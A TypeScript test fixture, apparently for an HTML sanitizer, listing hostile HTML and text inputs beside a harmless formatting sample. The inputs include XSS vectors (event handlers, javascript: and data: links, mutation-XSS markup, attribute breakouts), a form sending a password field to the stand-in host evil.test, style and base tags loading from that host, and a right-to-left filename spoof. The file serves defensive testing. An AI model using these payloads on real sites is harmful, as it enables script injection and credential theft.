/** Formatted texts that try to run, to load or to lead elsewhere, by what they try. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  ["a script", "<script>window.__pwn=1</script>"],
  ["a handler of a picture", '<img src="/none.png" onerror="window.__pwn=1">'],
  ["a handler of a drawing", '<svg onload="window.__pwn=1"><circle r="9"/></svg>'],
  ["a frame with a page in it", '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>'],
  ["a link that runs", '<a href="javascript:window.__pwn=1">点这里</a>'],
  ["a link that runs, spelt apart", '<a href="java&#9;script:window.__pwn=1">点这里</a><a href=" &#1;javascript:window.__pwn=1">点</a>'],
  ["a link to a page of its own making", '<a href="data:text/html,<script>window.__pwn=1</script>">点这里</a>'],
  ["a style that loads", '<style>p{background:url(https://evil.test/s)}</style><p style="background:url(https://evil.test/p)">字</p>'],
  ["a form to elsewhere", '<form action="https://evil.test/"><input name="password"><button>提交</button></form>'],
  [
    "formulas that turn into markup",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;"></table></mtext></math>',
  ],
  ["a base that bends addresses", '<base href="https://evil.test/"><a href="/x">站内</a>'],
  ["an attribute that breaks out", '<img src="x` `onerror=window.__pwn=1"><p title=""><script>window.__pwn=1</script>">字</p>'],
];

/** What people format with, as it is stored. */
export const HARMLESS_HTML =
  '<p><b>加粗</b><strong>重点</strong></p><ul><li>一</li></ul><ol start="2"><li>二</li></ol>' +
  '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table>' +
  '<p><a href="https://example.org/a?b=1">外部链接</a><a href="/hiv/organ">站内</a></p><img src="/apiserver/sys/common/static/temp/a.png" alt="图">';

/** Texts that are markup, or read backwards, where they are not taken as text. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<img src=x onerror=__pwn=1>",
  '"><svg/onload=__pwn=1>',
  "{{constructor}}${__pwn=1}",
  "名\u202Egnp.exe",
];
